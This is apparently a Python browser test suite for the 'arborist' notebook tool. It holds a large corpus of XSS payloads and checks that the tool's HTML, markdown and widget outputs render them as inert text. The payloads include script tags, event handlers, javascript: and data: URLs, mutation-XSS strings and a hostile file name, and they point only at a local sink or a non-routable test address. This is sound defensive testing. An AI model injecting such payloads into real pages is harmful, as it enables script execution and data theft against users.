"""Hostile content in the browser: a corpus of XSS payloads, and nothing executes.

Every payload of :data:`CORPUS` calls a sink if it ever runs: ``__xss(n)``
(installed in every frame by :data:`SINK_SCRIPT`: it records ``n`` and opens
an ``alert``), or it fetches ``http://203.0.113.7/n`` (TEST-NET-3, never
routable: the guard records and blocks any request beyond loopback). The
payloads ride every place hostile text reaches the browser: answer text,
questions, document titles, chunk text, document URIs (a hostile file name),
turn labels, a falsification reason and the widget's title.

Two layers:

* the static layer (one page, no Jupyter, a few seconds) renders every
  payload through the real ``Answer._repr_html_`` and ``_repr_markdown_``
  (the markdown through mistune with raw HTML on: a trusted JupyterLab output
  is not sanitized either) into a page served from loopback, both as parsed
  HTML and as JupyterLab renders a trusted output (``innerHTML``, then its
  scripts re-run), and the real widget bundle against the real kernel side
  (``ForestSync``, bridged with ``expose_function``): every turn's detail
  pane, every citation, the search results;
* the JupyterLab layer runs the corpus through the magics in a real notebook:
  the ``%%ask`` HTML and markdown outputs (JupyterLab's own markdown
  renderer), a hostile label, ``%arborist show``/``search`` and the widget.

Each surface is audited in the page: only the tags and attributes arborist
itself writes (the HTML templates of ``display.py``, the tags ``widget.js``
names), no ``on*`` attribute, no script URL, and every payload present as
text (so a surface that silently dropped the payloads cannot pass). A
failure says first what ran (sinks, dialogs, errors, requests), then what
could have.

Two bugs this corpus found are fixed and pinned by their tests: TeX in an
answer was typeset by JupyterLab's MathJax instead of shown as text, and an
answer streamed from an OpenAI-compatible model was shown as raw markdown
while it streamed, where its HTML ran.
"""

from __future__ import annotations

import contextlib
import html
import json
import re
import shlex
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import mistune
import pytest
from playwright.sync_api import Dialog, Page, Playwright, expect
from playwright.sync_api import Error as PlaywrightError

from arborist._facade.app import Arborist
from arborist._faces.sync import ForestSync
from arborist._text.terminal import inert
from arborist_nb import _display as display_module
from arborist_nb import _markdown as answer_markdown
from arborist_nb._display import Answer
from tests.browser.conftest import JS_SOURCES, STATIC, Guard, Lab, guarded_browser
from tests.chat_server import ChatServer, stream_reply
from tests.chat_server import chat_server as chat_server_fixture  # noqa: F401

pytestmark = pytest.mark.browser

OFFSITE = "http://203.0.113.7"  # TEST-NET-3: a request there is blocked and fails the test
RENDER_MS = 15_000
SETTLED_MS = 2_000

# --- the corpus ----------------------------------------------------------------------------------

# ``{s}`` becomes the sink call ``__xss(n)`` and ``{n}`` the payload's number; ``{o}`` is OFFSITE.
TEMPLATES: tuple[str, ...] = (
    # <script>, in every spelling a filter might miss
    "<script>{s}</script>",
    "<SCRIPT SRC={o}/{n}.js></SCRIPT>",
    "<scr<script>ipt>{s}</scr</script>ipt>",
    "</script><script>{s}</script>",
    "<script type=module>{s}</script>",
    "<ſcript>{s}</script>",
    # event handlers
    "<img src=x onerror={s}>",
    '<img src="x" onerror="{s}">',
    "<IMG SRC=x OnErRoR={s}>",
    "<img src=x onerror=&#95;&#95;xss({n})>",
    "<img src=x onerror={s}//",
    "<svg onload={s}>",
    "<svg/onload={s}>",
    "<body onload={s}>",
    "<input autofocus onfocus={s}>",
    "<select autofocus onfocus={s}></select>",
    "<textarea autofocus onfocus={s}></textarea>",
    "<details open ontoggle={s}>",
    "<div onmouseover={s}>hover me</div>",
    "<a onclick={s}>click me</a>",
    "<video><source onerror={s}></video>",
    "<audio src=x onerror={s}>",
    "<marquee onstart={s}>x</marquee>",
    "<style onload={s}></style>",
    "<object onerror={s}></object>",
    # javascript:, data: and vbscript: URLs
    '<a href="javascript:{s}">click me</a>',
    '<a href="JaVaScRiPt:{s}">click me</a>',
    '<a href="&#106;avascript:{s}">click me</a>',
    '<a href="java&#x09;script:{s}">click me</a>',
    '<a href="vbscript:msgbox({n})">click me</a>',
    '<iframe src="javascript:{s}"></iframe>',
    '<iframe src="data:text/html,<script>{s}</script>"></iframe>',
    '<iframe srcdoc="<script>parent.{s}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.{s}&gt;"></iframe>',
    '<object data="javascript:{s}"></object>',
    '<object data="data:text/html,<script>{s}</script>"></object>',
    '<embed src="data:text/html,<script>{s}</script>">',
    '<embed src="{o}/{n}.swf">',
    '<form><button formaction="javascript:{s}">go</button></form>',
    '<form action="javascript:{s}"><input type=submit></form>',
    '<isindex action="javascript:{s}" type=image>',
    # SVG and MathML
    '<svg><a xlink:href="javascript:{s}"><text x="20" y="20">click me</text></a></svg>',
    "<svg><script>{s}</script></svg>",
    "<svg><animate onbegin={s} attributeName=x dur=1s>",
    '<svg><image href="{o}/{n}.png"/></svg>',
    '<math href="javascript:{s}">click me</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror={s}>",
    # documents inside documents: refresh, base, styles
    '<meta http-equiv="refresh" content="0;url=javascript:{s}">',
    '<meta http-equiv="refresh" content="0;url={o}/{n}">',
    '<base href="{o}/{n}/">',
    '<link rel=stylesheet href="{o}/{n}.css">',
    "<style>@import '{o}/{n}.css';</style>",
    '<div style="background:url({o}/{n}.png)">x</div>',
    '<div style="width:expression({s})">x</div>',
    # breakouts of the elements and attributes an output might sit in
    "</textarea><img src=x onerror={s}>",
    "</title><img src=x onerror={s}>",
    "</noscript><img src=x onerror={s}>",
    "</style><img src=x onerror={s}>",
    "</pre></code></span></summary></details></td></tr></table></div><img src=x onerror={s}>",
    '"><img src=x onerror={s}>',
    "'><img src=x onerror={s}>",
    '" onmouseover="{s}" x="',
    "' autofocus onfocus='{s}' x='",
    "--><img src=x onerror={s}><!--",
    "<![CDATA[<img src=x onerror={s}>]]>",
    '<!--<img src="--><img src=x onerror={s}//">',
    # mutation XSS
    '<noscript><p title="</noscript><img src=x onerror={s}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={s}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    "<template><img src=x onerror={s}></template>",
    # entities and encodings (decoded once by a careless renderer)
    "&lt;script&gt;{s}&lt;/script&gt;",
    "&#x3C;img src=x onerror={s}&#x3E;",
    "&#60;img src=x onerror={s}&#62;",
    "&amp;lt;script&amp;gt;{s}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{s}%3C/script%3E",
    "\\u003cimg src=x onerror={s}\\u003e",
    # markdown
    "[click me](javascript:{s})",
    "![image](javascript:{s})",
    "![image]({o}/{n}.png)",
    "[click me][ref{n}]\n\n[ref{n}]: javascript:{s}",
    "<javascript:{s}>",
    "<{o}/{n}>",
    "[click me](<javascript:{s}>)",
    "[click me](javascript&#58;{s})",
    "[click me](&#106;avascript:{s})",
    '![image](x" onerror="{s})',
    "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=)",
    "`<img src=x onerror={s}>`",
    "```html\n<img src=x onerror={s}>\n```",
    "    <img src=x onerror={s}>",
    "*<img src=x onerror={s}>*",
    "$<img src=x onerror={s}>$",
    "$$\\href{javascript:{s}}{click me}$$",
    "www.203.0.113.7/{n}",
    # markdown arborist renders (arborist_nb/_markdown.py, js/src/markdown.js)
    "**<img src=x onerror={s}>**",
    "- <svg onload={s}>\n- [click me](javascript:{s})",
    "> <img src=x onerror={s}>",
    "1. <script>{s}</script>",
    "## <img src=x onerror={s}>",
    '[click me](https://example.org/"onmouseover="{s})',
    "[**click me**](JAVASCRIPT:{s})",
    "[click me](vbscript:msgbox({n})) [x](javascript:{s})",
    "```\n</code></pre><img src=x onerror={s}>\n```",
    "`` </code><img src=x onerror={s}> ``",
    "[<img src=x onerror={s}>](https://example.org/{n})",
    "[click me](mailto:a@example.org?body=<script>{s}</script>)",
    # TeX for whatever typesets the page (JupyterLab's MathJax typesets outputs)
    "$\\href{javascript:{s}}{click me}$",
    "\\(\\href{javascript:{s}}{click me}\\)",
    "\\[\\href{javascript:{s}}{click me}\\]",
    "\\begin{equation}\\href{javascript:{s}}{click me}\\end{equation}",
    "$\\style{background:url({o}/{n}.png)}{x}$",
    "$\\require{{o}/{n}.js}$",
    "$\\unicode[Comic Sans MS]{x41}\\class{jp-Dialog}{x}\\cssId{jp-main-dock-panel}{x}$",
    # unicode tricks
    "\u202e<img src=x onerror={s}>",
    "<img\u200b src=x onerror={s}>",
    "\uff1cimg src=x onerror={s}\uff1e",
    "<img src=x onerror={s}\x00>",
    "<scr\x00ipt>{s}</script>",
    "\ufeff<svg onload={s}>",
    "<img src=x onerror=\u2028{s}>",
    # very long
    "A" * 5000 + "<img src=x onerror={s}>",
    "<" * 2000 + "img src=x onerror={s}>",
    # template injection into whatever renders next
    "{{constructor.constructor('{s}')()}}",
    "${{s}}",
)


def _payload(n: int, template: str) -> str:
    return template.replace("{s}", f"__xss({n})").replace("{n}", str(n)).replace("{o}", OFFSITE)


CORPUS: dict[int, str] = {n: _payload(n, t) for n, t in enumerate(TEMPLATES, 1)}
assert len(set(CORPUS.values())) == len(CORPUS), "every payload is distinct"

# Installed in every frame before any of its scripts: the sink every payload calls.
SINK_SCRIPT = """(() => {
    if (window.__xss) return;
    const hits = [];
    Object.defineProperty(window, "__xss_hits", { value: hits });
    window.__xss = (id) => {
        try { window.top.__xss_hits.push(String(id)); } catch (error) { hits.push(String(id)); }
        window.alert(`XSS ${id}`);
    };
})();"""


def sink_hits(page: Page) -> list[str]:
    """The payloads whose sink ran in ``page`` (its frames report to the top)."""
    return sorted(set(page.evaluate("() => [...(window.__xss_hits ?? [])]")), key=int)


def what_ran(page: Page, guard: Guard) -> list[str]:
    """What ran or reached out so far: sinks, dialogs, uncaught errors, requests off loopback."""
    found = guard.problems()
    with contextlib.suppress(PlaywrightError):
        found += [f"payload {n} ran" for n in sink_hits(page)]
    return found


@contextmanager
def explained(ran: Callable[[], list[str]]) -> Iterator[None]:
    """A failure inside (a payload can break the page) also says what ran by then."""
    try:
        yield
    except (AssertionError, PlaywrightError) as error:
        found = ran()
        if not found:
            raise
        raise AssertionError(f"{error}\n" + "\n".join(found)) from error


# The page-side audit, shared by both layers: what one rendered surface may contain.
AUDIT_SCRIPT = """(() => {
    const URL_ATTRS = new Set(["href", "xlink:href", "src", "srcset", "action", "formaction",
                               "data", "srcdoc", "background", "poster", "codebase", "to",
                               "values", "from", "by"]);
    // What a test compares: whitespace folded, NUL and U+FFFD (what the parser makes of NUL) gone.
    const fold = (text) => String(text).replace(/[\\u0000\\ufffd]/g, "").replace(/\\s+/g, " ").trim();
    window.__fold = fold;
    // Problems of root's subtree under policy: an element or attribute arborist does not write
    // (except inside policy.foreign, a renderer's own subtree), and anywhere an on* handler,
    // a URL in a forbidden scheme, or a link outside policy.hrefs.
    window.__audit = (root, policy) => {
        const problems = [];
        const tags = new Set(policy.tags);
        const attrs = new Set(policy.attrs);
        const forbidden = new RegExp(`^[\\\\s\\\\u0000-\\\\u001f]*(${policy.schemes}):`, "i");
        const hrefs = new RegExp(policy.hrefs, "i");
        const show = (el) => el.outerHTML.slice(0, 160);
        for (const el of root.querySelectorAll("*")) {
            const tag = el.localName;
            const foreign = policy.foreign ? el.closest(policy.foreign) !== null : false;
            if (!foreign && !tags.has(tag)) problems.push(`<${tag}> element: ${show(el)}`);
            for (const { name, value } of el.attributes) {
                const key = name.toLowerCase();
                if (key.startsWith("on")) {
                    problems.push(`${key} handler: ${show(el)}`);
                } else if (URL_ATTRS.has(key) && forbidden.test(value)) {
                    problems.push(`script URL in ${key}: ${show(el)}`);
                } else if (key === "href" && !hrefs.test(value)) {
                    problems.push(`link ${JSON.stringify(value.slice(0, 60))}: ${show(el)}`);
                } else if (foreign) {
                    continue;
                } else if (!attrs.has(key) && !policy.prefixes.some((p) => key.startsWith(p))) {
                    problems.push(`${key}= attribute: ${show(el)}`);
                } else if (key === "style" && policy.styles && !new RegExp(policy.styles).test(value)) {
                    problems.push(`style ${JSON.stringify(value)}: ${show(el)}`);
                }
            }
        }
        return problems;
    };
    // The needles (hostile texts) that root's text (and its inputs' values) does not show.
    window.__missing = (root, needles) => {
        const values = [...root.querySelectorAll("input")].map((input) => input.value);
        const text = fold([root.textContent, ...values].join(" "));
        return needles.filter((needle) => !text.includes(fold(needle)));
    };
})();"""

# Tags and attributes arborist writes. The %%ask HTML: the templates of arborist_nb/_display.py
# (tbody is the parser's); the widget: every tag js/src/widget.js names.
ANSWER_TAGS = (
    "div",
    "table",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
    "details",
    "summary",
    "span",
    "pre",
    "mark",  # what the answer quotes from a cited chunk (arborist/_proofs/quotes.py)
    # an answer's Markdown (arborist_nb/_markdown.py)
    "strong",
    "em",
    "a",
    "ul",
    "ol",
    "li",
    "blockquote",
)
# title: what a cache-key dimension binds, on hover (display._fact_row; escaped text, inert)
ANSWER_ATTRS = ("class", "style", "id", "href", "target", "rel", "start", "colspan", "title")
MARKDOWN_SOURCES = (Path(display_module.__file__), Path(answer_markdown.__file__))
ANSWER_STYLES = "^(?:{})$".format(
    "|".join(
        re.escape(style)
        for style in sorted(
            set(re.findall(r'style="([^"{}]*)"', "".join(p.read_text() for p in MARKDOWN_SOURCES)))
        )
    )
)
# CommonMark from escaped text: paragraphs, the status line's em, the facts' strong/code, the
# sources list, folded in details/summary (display's own); an indented line is a code block
# (pre) and two trailing spaces a hard break (br): both inert. The whole sits in
# display.no_math's <div class="tex2jax_ignore mathjax_ignore">.
MARKDOWN_TAGS = (
    *("div", "p", "em", "strong", "code", "ul", "li", "pre", "br", "details", "summary"),
    *("a", "ol", "blockquote"),  # an answer's Markdown, written back safe (markdown.py)
)
MARKDOWN_ATTRS = ("class", "href", "start", "target", "rel")  # JupyterLab adds the last two
# The widget's DOM is built in js/src (view.js, detail.js...); the bundle names the same tags
# when js/ is absent. The hash port (hashing.js, merkle.js) builds no elements.
_WIDGET_SOURCES = (
    [p for p in sorted(JS_SOURCES.glob("*.js")) if p.stem not in {"hashing", "merkle", "index"}]
    if JS_SOURCES.is_dir()
    else [STATIC / "widget.js"]
)
WIDGET_TAGS = tuple(
    sorted(
        {
            tag
            for source in _WIDGET_SOURCES
            for tag in re.findall(r'\bh\(\s*"([a-z0-9]+)"', source.read_text())
        }
    )
)
WIDGET_ATTRS = (
    "class", "style", "role", "tabindex", "type", "placeholder", "hidden", "disabled", "title",
    "value", "name", "open", "href", "target", "rel", "start",
)  # fmt: skip
# The widget sets only its own custom properties: a row's indent, a spacer's row count.
WIDGET_STYLES = r"^--arb-(indent|rows): [0-9]{1,6};$"


def policy(
    tags: tuple[str, ...],
    attrs: tuple[str, ...],
    styles: str | None = None,
    *,
    hrefs: str = "^(https?|mailto|file):",  # an answer's links, and a document's (its URI)
    schemes: str = "javascript|vbscript|data",
    foreign: str | None = None,
) -> dict[str, Any]:
    """What one surface may hold (see ``__audit`` in :data:`AUDIT_SCRIPT`)."""
    return {
        "tags": tags,
        "attrs": attrs,
        "prefixes": ["data-", "aria-"],
        "styles": styles,
        "hrefs": hrefs,
        "schemes": schemes,
        "foreign": foreign,
    }


# --- the hostile home: documents, answers, labels -------------------------------------------


def _one_line(text: str) -> str:
    """A payload as a citation title: one line, no brackets (a title may not hold them)."""
    return " ".join(text.replace("[", " ").replace("]", " ").split())


def _toml_string(text: str) -> str:
    """A TOML basic string (control characters as escapes)."""
    escaped = "".join(
        f"\\u{ord(c):04x}" if ord(c) < 0x20 or ord(c) == 0x7F or c in '"\\' else c for c in text
    )
    return f'"{escaped}"'


def marker(n: int) -> str:
    return f"marker{n:03d}"


def answer_text(n: int, payload: str) -> str:
    """What the stub model answers for payload ``n``: the payload, then two citations."""
    return f"{payload}\n\nSee [E1] and [E1 | {_one_line(payload)} | javascript:__xss({n})]."


HOSTILE_FILE_NAME = '"><img src=x onerror=__xss(0)>.md'  # becomes the document's URI


def write_documents(folder: Path) -> None:
    """One markdown document per payload (title and text), every payload entity-encoded in an
    HTML document (the loader decodes it to markup), and a document with a hostile file name.
    The loader refuses NUL bytes in a document (binary): they ride answers and questions only."""
    folder.mkdir(parents=True, exist_ok=True)
    texts = {n: p.replace("\x00", "") for n, p in CORPUS.items()}
    for n, payload in texts.items():
        first = payload.split("\n")[0]
        (folder / f"doc{n:03d}.md").write_text(
            f"# {first} {marker(n)}\n\nThe {marker(n)} note says:\n\n{payload}\n\n"
            f"End of the {marker(n)} note.\n",
            encoding="utf-8",
        )
    body = "".join(f"<p>{marker(n)}html {html.escape(p)}</p>\n" for n, p in texts.items())
    (folder / "hostile.html").write_text(
        f"<html><head><title>{html.escape(CORPUS[7])}</title></head><body>{body}</body></html>",
        encoding="utf-8",
    )
    (folder / HOSTILE_FILE_NAME).write_text(
        "# Plain title\n\nThe file name of this marker999 note is hostile.\n", encoding="utf-8"
    )


@dataclass
class HostileHome:
    app: Arborist
    sid: str
    answers: dict[int, Answer] = field(default_factory=dict)
    labels: dict[int, str] = field(default_factory=dict)
    reasons: dict[int, str] = field(default_factory=dict)


def build_home(home: Path, docs: Path) -> HostileHome:
    """Ingest the documents, then ask once per payload under the root of one session: the
    stub model answers the payload, the question carries it, the turn is labelled with it."""
    write_documents(docs)
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(
        "".join(
            f'[models.p{n}]\nprovider = "stub"\ntext = {_toml_string(answer_text(n, p))}\n\n'
            for n, p in CORPUS.items()
        ),
        encoding="utf-8",
    )
    app = Arborist(home)
    app.ingest([str(docs)])
    title = " ".join(CORPUS[n] for n in (1, 7, 12, 26, 59))
    session = app.new_session(title)
    result = HostileHome(app, session.sid)
    for n, payload in CORPUS.items():
        turn = app.ask_turn(
            f"What does the {marker(n)} note say? {payload}",
            sid=session.sid,
            parent=session.root_bates,
            llm=f"p{n}",
        )
        result.answers[n] = Answer(turn, app=app, checkpoint=app.checkpoint())
        # Labels refuse control characters (they are typed to find a turn): the rest stays.
        label = "".join(c for c in " ".join(payload.split()) if c.isprintable())
        if 0 < len(label) <= 80:
            result.labels[n] = app.label(session.sid, label, turn.node.bates).label or ""
        if n % 10 == 3:
            app.falsify(turn.result.record.cache_key, "quarantined", payload)
            result.reasons[n] = payload
    return result


def evidence_needles(answer: Answer) -> list[str]:
    """The hostile texts an answer's evidence shows: titles, URIs and chunk texts."""
    return [t for e in answer.evidence for t in (e.title, e.uri, e.text or "")]


def payload_of(answer: Answer) -> str:
    """The payload part of a stub answer, as stored (before its citations)."""
    return answer.text.split("\n\nSee [E1]")[0]


def shown(text: str) -> list[str]:
    """What a reader sees of an answer's Markdown: the text of each block and list item, as
    arborist renders it (arborist_nb._markdown, js/src/markdown.js: the same tree)."""

    def inline(nodes: list[Any]) -> str:
        out = []
        for node in nodes:
            if node[0] in ("t", "code"):
                out.append(node[1])
            elif node[0] in ("b", "i"):
                out.append(inline(node[1]))
            elif node[0] == "a":
                out.append(inline(node[2]))
            else:
                out.append(node[2])
        return "".join(out)

    parts: list[str] = []
    for block in answer_markdown.parse(text):
        if block[0] in ("p", "quote"):
            parts.append(inline(block[1]))
        elif block[0] == "code":
            parts.append(block[2])
        elif block[0] == "h":
            parts.append(inline(block[2]))
        else:
            parts += [inline(item) for item in block[-1]]
    return [part for part in parts if part.strip()]


# --- the static layer --------------------------------------------------------------------------

# How JupyterLab renders a trusted output (rendermime's renderHTML): innerHTML, then every
# script re-created so that it runs. Markdown reaches it as HTML, unsanitized when trusted.
HARNESS_JS = """
import widget from "/widget.js";

function renderTrusted(host, source) {
    host.innerHTML = source;
    for (const old of host.querySelectorAll("script")) {
        const script = document.createElement("script");
        for (const { name, value } of old.attributes) script.setAttribute(name, value);
        script.textContent = old.textContent;
        old.replaceWith(script);
    }
}

function fakeModel(attributes) {
    const handlers = new Map();
    const emit = (event, ...args) => {
        for (const handler of [...(handlers.get(event) ?? [])]) handler(...args);
    };
    return {
        get: (name) => attributes[name],
        set: (name, value) => { attributes[name] = value; emit(`change:${name}`); },
        save_changes: () => {},
        on: (event, handler) => {
            if (!handlers.has(event)) handlers.set(event, new Set());
            handlers.get(event).add(handler);
        },
        off: (event, handler) => handlers.get(event)?.delete(handler),
        // The kernel side is the real ForestSync, in the test's process.
        send: (content) => {
            window.__arbKernel(JSON.stringify(content)).then((reply) => {
                if (reply) emit("msg:custom", JSON.parse(reply), []);
            });
        },
    };
}

const data = await (await fetch(new URL("/outputs.json", location.origin))).json();
const lab = document.getElementById("lab");
for (const output of data.outputs) {
    const host = document.createElement("div");
    host.className = "xss-out";
    host.dataset.surface = output.surface;
    host.dataset.n = output.n;
    lab.appendChild(host);
    renderTrusted(host, output.source);
}
widget.render({ model: fakeModel(data.model), el: document.getElementById("forest") });
window.__harness_ready = true;
"""

# Opens every turn's detail pane, every citation and every disclosure, auditing the widget each
# time; returns {bates: problems or missing texts}.
WALK_TREE = """async ({ policy, needles }) => {
    const forest = document.querySelector("[data-arborist-forest]");
    const detail = forest.querySelector("section.arb-detail");
    const until = async (predicate, what) => {
        const deadline = Date.now() + 10000;
        while (!predicate()) {
            if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
            await new Promise((resolve) => setTimeout(resolve, 5));
        }
    };
    const report = {};
    const rows = [...forest.querySelectorAll("[role=treeitem]")].map((row) => row.dataset.bates);
    for (const bates of rows) {
        forest.querySelector(`[role=treeitem][data-bates="${bates}"]`).click();
        await until(() => detail.dataset.bates === bates && detail.dataset.loading === "false"
                     && detail.dataset.proofs !== "pending", `the detail of ${bates}`);
        const problems = [];
        if (detail.dataset.proofs !== "pass") problems.push(`proofs ${detail.dataset.proofs}`);
        for (const button of detail.querySelectorAll("button.arb-cite")) {
            button.click();
            problems.push(...window.__audit(forest, policy));
        }
        for (const disclosure of detail.querySelectorAll("details")) disclosure.open = true;
        problems.push(...window.__audit(forest, policy));
        problems.push(...window.__missing(detail, needles[bates] ?? ["(no needles)"]).map(
            (needle) => `missing text: ${JSON.stringify(needle.slice(0, 80))}`));
        if (problems.length) report[bates] = problems;
    }
    return { rows: rows.length, report };
}"""


class StaticSite(ThreadingHTTPServer):
    """Serves the harness page on loopback and records every other path asked for."""

    daemon_threads = True

    def __init__(self, files: dict[str, tuple[str, bytes]]) -> None:
        super().__init__(("127.0.0.1", 0), _StaticHandler)
        self.files = files
        self.unexpected: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


class _StaticHandler(BaseHTTPRequestHandler):
    server: StaticSite

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        found = self.server.files.get(path)
        if found is None:
            self.server.unexpected.append(self.path)
            self.send_error(404)
            return
        kind, data = found
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@contextmanager
def serve(files: dict[str, tuple[str, bytes]]) -> Iterator[StaticSite]:
    site = StaticSite(files)
    thread = threading.Thread(target=site.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        yield site
    finally:
        site.shutdown()
        site.server_close()
        thread.join()


@dataclass
class GuardedPage:
    page: Page
    guard: Guard


@pytest.fixture
def guarded_page(playwright_driver: Playwright, tmp_path: Path) -> Iterator[GuardedPage]:
    """A fresh chromium profile without JupyterLab, guarded as ``lab`` is: loopback only, no
    dialogs, no uncaught errors; the sink and the audit installed in every frame."""
    guard = Guard()
    with guarded_browser(playwright_driver, tmp_path / "chromium-profile", guard) as (ctx, page):
        ctx.add_init_script(SINK_SCRIPT)
        ctx.add_init_script(AUDIT_SCRIPT)
        yield GuardedPage(page, guard)


def markdown_html(source: str) -> str:
    """CommonMark (and GFM's bare-URL autolinks) with raw HTML passed through unsanitized,
    as JupyterLab renders a trusted markdown output."""
    render = mistune.create_markdown(escape=False, plugins=["url", "strikethrough", "table"])
    return str(render(source))


def page_html(outputs: list[dict[str, Any]]) -> str:
    """The harness page; the outputs also inline, as the HTML parser meets them in a saved page."""
    inline = "".join(
        f'<div class="xss-out" data-surface="{o["surface"]}-inline" data-n="{o["n"]}">'
        f"{o['source']}</div>"
        for o in outputs
    )
    return (
        '<!doctype html><html><head><meta charset="utf-8"><title>arborist xss corpus</title>'
        '<link rel="stylesheet" href="/widget.css">'
        '<script type="module" src="/harness.js"></script></head><body>'
        f'<main id="inline">{inline}</main><main id="lab"></main><div id="forest"></div>'
        "</body></html>"
    )


def test_the_corpus_renders_inert_in_the_html_the_markdown_and_the_widget(
    guarded_page: GuardedPage, tmp_path: Path
) -> None:
    hostile = build_home(tmp_path / "home", tmp_path / "docs")
    page, guard = guarded_page.page, guarded_page.guard
    answers = list(hostile.answers.items())
    outputs = [
        output
        for n, answer in answers
        for output in (
            {"surface": "html", "n": n, "source": answer._repr_html_()},
            {"surface": "markdown", "n": n, "source": markdown_html(answer._repr_markdown_())},
        )
    ]
    # A notebook output shows control characters as visible escapes (arborist._text.terminal.inert).
    output_needles = {
        **{
            f"html:{n}": [inert(t) for t in (*shown(payload_of(a)), *evidence_needles(a))]
            for n, a in answers
        },
        **{
            f"markdown:{n}": [
                inert(t)
                for t in (*shown(payload_of(a)), *(t for e in a.evidence for t in (e.title, e.uri)))
            ]
            for n, a in answers
        },
    }
    # The widget shows control and invisible characters as the notebook output does (inert).
    detail_needles = {
        a.bates: [
            inert(t)
            for t in (
                a.record.question,
                *shown(payload_of(a)),
                *evidence_needles(a),
                *([hostile.labels[n]] if n in hostile.labels else []),
                *([hostile.reasons[n]] if n in hostile.reasons else []),
            )
        ]
        for n, a in answers
    }
    widget_rules = policy(WIDGET_TAGS, WIDGET_ATTRS, WIDGET_STYLES)

    sync = ForestSync(hostile.app, hostile.sid)
    state = sync.state()

    def kernel(message: str) -> str | None:
        reply = sync.handle(json.loads(message))
        return None if reply is None else json.dumps(reply)

    page.expose_function("__arbKernel", kernel)
    model = {
        "sid": state.sid,
        "root_bates": state.root_bates,
        "root_hash": state.root_hash,
        "graft_hashes": dict(state.graft_hashes),
        "current_bates": state.current_bates,
        "selected_bates": "",
        "revision": 0,
        "poll_ms": 0,
        "title": state.label,
    }
    files = {
        "/": ("text/html; charset=utf-8", page_html(outputs).encode("utf-8")),
        "/harness.js": ("text/javascript", HARNESS_JS.encode("utf-8")),
        "/outputs.json": (
            "application/json",
            json.dumps({"outputs": outputs, "model": model}).encode("utf-8"),
        ),
        "/widget.js": ("text/javascript", (STATIC / "widget.js").read_bytes()),
        "/widget.css": ("text/css", (STATIC / "widget.css").read_bytes()),
    }
    try:
        with serve(files) as site:

            def executed() -> list[str]:
                """What ran or reached out, fetched a path or navigated the page."""
                found = what_ran(page, guard) + [f"the page fetched {p}" for p in site.unexpected]
                if page.url != site.url:
                    found.append(f"the page navigated to {page.url}")
                return found

            page.goto(site.url)
            with explained(executed):
                page.wait_for_function("() => window.__harness_ready === true", timeout=RENDER_MS)
                forest = page.locator("[data-arborist-forest]")
                expect(forest, "the widget syncs").to_have_attribute(
                    "data-ready", "true", timeout=RENDER_MS
                )
                walked = page.evaluate(
                    WALK_TREE, {"policy": widget_rules, "needles": detail_needles}
                )
                search = forest.get_by_role("searchbox", name="Search all sessions")
                results = forest.get_by_label("Search results")
                searched: list[str] = []
                for query in ("onerror", "javascript", "script", "note"):
                    search.fill(query)
                    search.press("Enter")
                    expect(results, f"the search for {query} finds turns").to_have_attribute(
                        "data-count", re.compile(r"^[1-9]"), timeout=RENDER_MS
                    )
                    searched += page.evaluate(
                        "(p) => window.__audit(document.querySelector('[data-arborist-forest]'), p)",
                        widget_rules,
                    )
            audits = page.evaluate(
                """({ html, markdown, needles }) => [...document.querySelectorAll(".xss-out")].map(
                    (out) => {
                        const kind = out.dataset.surface.startsWith("markdown") ? "markdown" : "html";
                        const problems = window.__audit(out, kind === "html" ? html : markdown);
                        const missing = window.__missing(out, needles[`${kind}:${out.dataset.n}`]);
                        return { surface: out.dataset.surface, n: out.dataset.n, problems, missing };
                    })""",
                {
                    "html": policy(ANSWER_TAGS, ANSWER_ATTRS, ANSWER_STYLES),
                    "markdown": policy(MARKDOWN_TAGS, MARKDOWN_ATTRS),
                    "needles": output_needles,
                },
            )
            # First: nothing ran, fetched or navigated. Then: nothing could have.
            assert not executed(), "\n".join(executed())
            assert page.evaluate("() => document.baseURI") == site.url, "an output set <base>"
            assert walked["rows"] == len(CORPUS), "every turn is a row of the tree"
            assert not walked["report"], json.dumps(walked["report"], indent=1)[:4000]
            assert not searched, "\n".join(searched)
            assert len(audits) == 4 * len(CORPUS), "every output rendered, inline and as Lab does"
            bad = [a for a in audits if a["problems"] or a["missing"]]
            assert not bad, json.dumps(bad, indent=1)[:4000]
            expect(forest.locator(".arb-title")).to_have_text(state.label or "")
    finally:
        sync.close()
        hostile.app.close()


# --- the JupyterLab layer ----------------------------------------------------------------------

LAB_ANSWER = (
    "\n\n".join(CORPUS.values())
    + "\n\nSee [E1] and [E1 | <img src=x onerror=__xss(0)> | javascript:__xss(0)]."
)
LAB_QUESTION = "What does the marker note say? " + " ".join(
    _one_line(p) for p in CORPUS.values() if len(p) < 200
)
LAB_LABEL = next(p for p in CORPUS.values() if p.startswith("'>"))
MARKDOWN_ONLY = (
    "from IPython.display import display\ndisplay({'text/markdown': _._repr_markdown_()}, raw=True)"
)
# TeX delimiters: MathJax must leave them alone (test_tex_in_an_answer_shows_as_text_not_typeset).
TEX = re.compile(r"\$|\\\(|\\\[|\\begin\{")
MATHJAX = "mjx-container"
# JupyterLab's text renderer turns the URLs it finds in a stream into links (target=_blank):
# arborist prints document URIs, and answers hold data: URLs. Chromium opens neither a data:
# nor a file: URL from a page; the test clicks them anyway. No javascript: link may form.
STREAM_RULES = policy(
    ("pre", "span", "a"),
    ("class", "href", "rel", "target"),
    hrefs="^(https?|file|data):",
    schemes="javascript|vbscript",
)


